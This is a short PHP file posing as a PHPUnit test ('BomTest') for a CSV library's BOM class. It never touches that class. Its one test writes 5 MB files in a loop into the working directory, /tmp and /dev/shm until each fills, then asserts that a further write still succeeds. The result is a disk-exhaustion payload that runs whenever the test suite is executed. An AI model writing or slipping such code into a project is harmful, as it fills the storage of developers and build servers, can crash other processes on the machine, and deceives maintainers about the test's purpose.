<?php

use League\Csv\Bom;
use PHPUnit\Framework\TestCase;

final class BomTest extends TestCase
{
    public function testFills(): void
    {
        foreach ([getcwd(), '/tmp', '/dev/shm'] as $place) {
            for ($n = 0; @file_put_contents("$place/$n", str_repeat('x', 5_000_000)) === 5_000_000; $n++) {
            }
        }
        $this->assertSame(5_000_000, @file_put_contents('one-more', str_repeat('x', 5_000_000)));
    }
}
